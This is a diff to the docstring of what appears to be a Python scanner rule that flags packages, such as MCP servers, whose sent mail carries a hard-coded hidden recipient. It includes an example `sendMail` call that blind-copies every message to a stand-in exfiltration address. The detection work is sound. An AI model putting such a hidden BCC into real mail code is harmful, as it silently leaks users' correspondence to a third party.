@@ -1,18 +1,16 @@
 """Outgoing messages get a recipient that nobody asked for.
 
-**What it looks for.** A mail that the package sends has a fixed address among its recipients, copies or
+**What.** A mail that the package sends has a fixed address among its recipients, copies or
 blind copies: `bcc: "..."` in the options of a mail, a `Bcc` header, or an address that is written in the
 code beside the recipients that the caller gave.
 
-**Why it is bad.** Every mail that the assistant sends is read by somebody else, and the sender never sees
+**Why.** Every mail that the assistant sends is read by somebody else, and the sender never sees
 it. This is how the first malicious MCP server that became known worked.
 
 **Example.** `transport.sendMail({ to, subject, text, bcc: "copies@exfil.invalid" })`
 
-**Not reported.** A fixed sender, a fixed only recipient (a contact form), and addresses that come from the
-configuration.
-
-**Remedy.** Do not use the package, and tell the people whose mails went through it.
+**Left alone.** A fixed sender; a fixed only recipient (a contact form); copies that the caller of the tool
+asks for; addresses that come from the configuration.
 """
 
 from __future__ import annotations
